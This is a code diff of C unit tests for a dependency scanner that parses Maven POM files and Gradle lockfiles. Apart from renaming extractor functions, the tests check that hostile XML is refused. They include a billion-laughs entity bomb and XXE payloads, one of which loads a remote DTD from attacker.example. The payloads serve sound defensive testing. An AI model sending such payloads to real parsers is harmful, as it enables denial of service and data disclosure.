@@ -39,7 +39,7 @@ static void test_pom_single(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "simple/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "simple/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_itself(void **state)
@@ -49,7 +49,7 @@ static void test_pom_parent_itself(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/pom.xml", w, N(w));
 }
 
 static void test_pom_child_overrides_property(void **state)
@@ -62,7 +62,7 @@ static void test_pom_child_overrides_property(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/core/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/core/pom.xml", w, N(w));
 }
 
 static void test_pom_child_with_relative_path(void **state)
@@ -77,7 +77,7 @@ static void test_pom_child_with_relative_path(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/web/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/web/pom.xml", w, N(w));
 }
 
 static void test_pom_grandchild(void **state)
@@ -97,7 +97,7 @@ static void test_pom_grandchild(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/services/api/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/services/api/pom.xml", w, N(w));
 }
 
 static void test_pom_relative_path_directory(void **state)
@@ -110,7 +110,7 @@ static void test_pom_relative_path_directory(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "multi/tools/cli/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/tools/cli/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_from_repository(void **state)
@@ -123,7 +123,7 @@ static void test_pom_parent_from_repository(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "orphan/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "orphan/pom.xml", w, N(w));
 }
 
 static void test_pom_parent_mismatch(void **state)
@@ -135,7 +135,7 @@ static void test_pom_parent_mismatch(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_pom, "maven", "mismatch/pom.xml", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "mismatch/pom.xml", w, N(w));
 }
 
 static void test_pom_without_file_system(void **state)
@@ -150,7 +150,7 @@ static void test_pom_without_file_system(void **state)
 
 	(void)state;
 	assert_non_null(text);
-	sca_expect_text(scan_sca__extract_pom, "core/pom.xml", text, w, N(w));
+	sca_expect_text(scan_lockfile__extract_pom, "core/pom.xml", text, w, N(w));
 	free(text);
 }
 
@@ -189,7 +189,7 @@ static void test_pom_property_cycles(void **state)
 	                  "<dependency><artifactId>no-group</artifactId><version>1</version></dependency>\n"
 	                  "</dependencies>\n</project>\n");
 	assert_int_equal(scan_buf_failed(&b), 0);
-	sca_expect_text(scan_sca__extract_pom, "pom.xml", b.ptr, w, N(w));
+	sca_expect_text(scan_lockfile__extract_pom, "pom.xml", b.ptr, w, N(w));
 	if (th_cpu_seconds() - t0 > SCA_REFUSE_SECONDS)
 		fail_msg("took %.2f s", th_cpu_seconds() - t0);
 	scan_buf_dispose(&b);
@@ -210,7 +210,7 @@ static void test_pom_expansion_budget(void **state)
 		scan_buf_printf(&b, "<dependency><groupId>g</groupId><artifactId>a%d</artifactId>"
 		                    "<version>${p40}</version></dependency>\n", i);
 	scan_buf_puts(&b, "</dependencies></project>\n");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
 	             "pom.xml: more than 1000000 property substitutions");
 	scan_buf_dispose(&b);
 }
@@ -245,16 +245,16 @@ static void test_pom_parent_cycle_and_escape(void **state)
 	         "</dependencies></project>\n");
 	path = th_join(dir, "a/pom.xml");
 	text = th_read(path, &len);
-	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, dir, "a/pom.xml", text, len), 0);
+	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, dir, "a/pom.xml", text, len), 0);
 	sca_expect(&inv, wa, N(wa));
-	scan_sca__inventory_dispose(&inv);
+	scan_inventory__dispose(&inv);
 	free(text);
 	free(path);
 	path = th_join(dir, "c/pom.xml");
 	text = th_read(path, &len);
-	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, dir, "c/pom.xml", text, len), 0);
+	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, dir, "c/pom.xml", text, len), 0);
 	sca_expect(&inv, wc, N(wc));
-	scan_sca__inventory_dispose(&inv);
+	scan_inventory__dispose(&inv);
 	free(text);
 	free(path);
 	th_rmtree(dir);
@@ -264,12 +264,12 @@ static void test_pom_parent_cycle_and_escape(void **state)
 static void test_pom_refused(void **state)
 {
 	(void)state;
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\"?><settings/>"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<?xml version=\"1.0\"?><settings/>"), SCAN_EPARSE,
 	             "pom.xml:1: root element is <settings>, not <project>");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<project>\n<dependencies>\n</project>"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<project>\n<dependencies>\n</project>"), SCAN_EPARSE,
 	             "pom.xml:3: not well-formed XML");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", S(""), SCAN_EPARSE, "not well-formed");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<project>&undefined;</project>"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S(""), SCAN_EPARSE, "not well-formed");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<project>&undefined;</project>"), SCAN_EPARSE,
 	             "undefined entity");
 }
 
@@ -294,9 +294,9 @@ static void test_xml_billion_laughs(void **state)
 		"<project><version>&lol9;</version></project>\n";
 
 	(void)state;
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", laughs, strlen(laughs), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", laughs, strlen(laughs), SCAN_EPARSE,
 	             "pom.xml:2: DOCTYPE declarations are not allowed");
-	sca_expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml", laughs,
+	sca_expect_error(scan_lockfile__extract_gradle_verification, "gradle/verification-metadata.xml", laughs,
 	             strlen(laughs), SCAN_EPARSE, "DOCTYPE");
 }
 
@@ -314,9 +314,9 @@ static void test_xml_external_entities(void **state)
 		"<!DOCTYPE p [<!ENTITY % remote SYSTEM \"http://attacker.example/x\"> %remote;]><project/>";
 
 	(void)state;
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", xxe, strlen(xxe), SCAN_EPARSE, "DOCTYPE");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", external_dtd, strlen(external_dtd), SCAN_EPARSE, "DOCTYPE");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", param, strlen(param), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", xxe, strlen(xxe), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", external_dtd, strlen(external_dtd), SCAN_EPARSE, "DOCTYPE");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", param, strlen(param), SCAN_EPARSE, "DOCTYPE");
 }
 
 static void test_xml_limits(void **state)
@@ -328,7 +328,7 @@ static void test_xml_limits(void **state)
 	scan_buf_puts(&b, "<project>");
 	for (int i = 0; i < 100000; i++)
 		scan_buf_puts(&b, "<a>");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
 	             "elements nested deeper than 128 levels");
 	/* a huge attribute */
 	scan_buf_clear(&b);
@@ -336,23 +336,23 @@ static void test_xml_limits(void **state)
 	for (int i = 0; i < 200000; i++)
 		scan_buf_putc(&b, 'A');
 	scan_buf_puts(&b, "\"/>");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "attribute 'x' longer than");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "attribute 'x' longer than");
 	/* huge text */
 	scan_buf_clear(&b);
 	scan_buf_puts(&b, "<project><description>");
 	for (int i = 0; i < (3 << 20); i++)
 		scan_buf_putc(&b, 'x');
 	scan_buf_puts(&b, "</description></project>");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "text longer than");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "text longer than");
 	/* a huge element name */
 	scan_buf_clear(&b);
 	scan_buf_puts(&b, "<project><");
 	for (int i = 0; i < 5000; i++)
 		scan_buf_putc(&b, 'n');
 	scan_buf_puts(&b, "/></project>");
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "element name longer");
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "element name longer");
 	/* an encoding expat does not know */
-	sca_expect_error(scan_sca__extract_pom, "pom.xml", S("<?xml version=\"1.0\" encoding=\"EBCDIC-XX\"?><project/>"),
+	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<?xml version=\"1.0\" encoding=\"EBCDIC-XX\"?><project/>"),
 	             SCAN_EPARSE, "encoding");
 	assert_int_equal(scan_buf_failed(&b), 0);
 	scan_buf_dispose(&b);
@@ -377,9 +377,9 @@ static void test_xml_utf16_and_namespaces(void **state)
 		utf16[3 + 2 * i] = 0;
 	}
 	utf16[2 * n + 2] = 0;
-	assert_int_equal(sca_run_path(&inv, scan_sca__extract_pom, NULL, "pom.xml", utf16, 2 * n + 2), 0);
+	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, NULL, "pom.xml", utf16, 2 * n + 2), 0);
 	sca_expect(&inv, w, N(w));
-	scan_sca__inventory_dispose(&inv);
+	scan_inventory__dispose(&inv);
 	free(utf16);
 }
 
@@ -406,7 +406,7 @@ static void test_gradle_lockfile(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle.lockfile", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/gradle.lockfile", w, N(w));
 }
 
 static void test_gradle_buildscript_lockfile(void **state)
@@ -417,7 +417,7 @@ static void test_gradle_buildscript_lockfile(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/buildscript-gradle.lockfile", w, N(w));
+	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/buildscript-gradle.lockfile", w, N(w));
 }
 
 static void test_gradle_legacy_lockfiles(void **state)
@@ -432,9 +432,9 @@ static void test_gradle_legacy_lockfiles(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle",
+	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle",
 	               "app/gradle/dependency-locks/testRuntimeClasspath.lockfile", test_w, N(test_w));
-	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle/dependency-locks/runtimeClasspath.lockfile",
+	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/gradle/dependency-locks/runtimeClasspath.lockfile",
 	               rt_w, N(rt_w));
 }
 
@@ -452,20 +452,20 @@ static void test_gradle_lockfile_crlf_and_errors(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "crlf-gradle.lockfile", w, N(w));
-	sca_expect_text(scan_sca__extract_gradle_lock, "gradle.lockfile",
+	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "crlf-gradle.lockfile", w, N(w));
+	sca_expect_text(scan_lockfile__extract_gradle_lock, "gradle.lockfile",
 	            "a:latest:1=latestClasspath\n"
 	            "a:fixtures:2=testFixturesRuntimeClasspath, functionalTestRuntimeClasspath\n"
 	            "a:mixed:3=testRuntimeClasspath,runtimeClasspath\n"
 	            "a:none:4=\n",
 	            odd, N(odd));
-	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("# c\ng:a=compileClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("# c\ng:a=compileClasspath\n"), SCAN_EPARSE,
 	             "gradle.lockfile:2: expected group:artifact:version=configurations");
-	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:1:x=runtimeClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g:a:1:x=runtimeClasspath\n"), SCAN_EPARSE,
 	             ":1: expected");
-	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g::1=runtimeClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g::1=runtimeClasspath\n"), SCAN_EPARSE,
 	             NULL);
-	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:\x01=x\n"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g:a:\x01=x\n"), SCAN_EPARSE,
 	             "invalid version");
 }
 
@@ -481,32 +481,32 @@ static void test_gradle_verification(void **state)
 	};
 
 	(void)state;
-	sca_expect_fixture(scan_sca__extract_gradle_verification, "gradle", "gradle/verification-metadata.xml", w, N(w));
-	sca_expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml",
+	sca_expect_fixture(scan_lockfile__extract_gradle_verification, "gradle", "gradle/verification-metadata.xml", w, N(w));
+	sca_expect_error(scan_lockfile__extract_gradle_verification, "gradle/verification-metadata.xml",
 	             S("<verification-metadata><components>\n<component group=\"g\" name=\"n\"/>"
 	               "</components></verification-metadata>"),
 	             SCAN_EPARSE, ":2: <component> needs group, name and version");
-	sca_expect_error(scan_sca__extract_gradle_verification, "v.xml", S("<project/>"), SCAN_EPARSE,
+	sca_expect_error(scan_lockfile__extract_gradle_verification, "v.xml", S("<project/>"), SCAN_EPARSE,
 	             "not <verification-metadata>");
 }
 
 static void test_paths(void **state)
 {
 	(void)state;
-	assert_true(scan_sca__is_pom("pom.xml", "pom.xml"));
-	assert_true(scan_sca__is_pom("a/b/pom.xml", "pom.xml"));
-	assert_false(scan_sca__is_pom("a/pom.xml.bak", "pom.xml.bak"));
-	assert_true(scan_sca__is_gradle_lock("gradle.lockfile", "gradle.lockfile"));
-	assert_true(scan_sca__is_gradle_lock("app/buildscript-gradle.lockfile", "buildscript-gradle.lockfile"));
-	assert_true(scan_sca__is_gradle_lock("app/gradle/dependency-locks/compileClasspath.lockfile",
-	                                     "compileClasspath.lockfile"));
-	assert_false(scan_sca__is_gradle_lock("x/other.lockfile", "other.lockfile"));
-	assert_true(scan_sca__is_gradle_verification("gradle/verification-metadata.xml", "verification-metadata.xml"));
-	assert_true(scan_sca__is_gradle_verification("sub/gradle/verification-metadata.xml",
-	                                             "verification-metadata.xml"));
-	assert_false(scan_sca__is_gradle_verification("verification-metadata.xml", "verification-metadata.xml"));
-	assert_false(scan_sca__is_gradle_verification("mygradle/verification-metadata.xml",
-	                                              "verification-metadata.xml"));
+	assert_true(scan_lockfile__is_pom("pom.xml", "pom.xml"));
+	assert_true(scan_lockfile__is_pom("a/b/pom.xml", "pom.xml"));
+	assert_false(scan_lockfile__is_pom("a/pom.xml.bak", "pom.xml.bak"));
+	assert_true(scan_lockfile__is_gradle_lock("gradle.lockfile", "gradle.lockfile"));
+	assert_true(scan_lockfile__is_gradle_lock("app/buildscript-gradle.lockfile", "buildscript-gradle.lockfile"));
+	assert_true(scan_lockfile__is_gradle_lock("app/gradle/dependency-locks/compileClasspath.lockfile",
+	                                          "compileClasspath.lockfile"));
+	assert_false(scan_lockfile__is_gradle_lock("x/other.lockfile", "other.lockfile"));
+	assert_true(scan_lockfile__is_gradle_verification("gradle/verification-metadata.xml", "verification-metadata.xml"));
+	assert_true(scan_lockfile__is_gradle_verification("sub/gradle/verification-metadata.xml",
+	                                                  "verification-metadata.xml"));
+	assert_false(scan_lockfile__is_gradle_verification("verification-metadata.xml", "verification-metadata.xml"));
+	assert_false(scan_lockfile__is_gradle_verification("mygradle/verification-metadata.xml",
+	                                                   "verification-metadata.xml"));
 }
 
 int main(void)
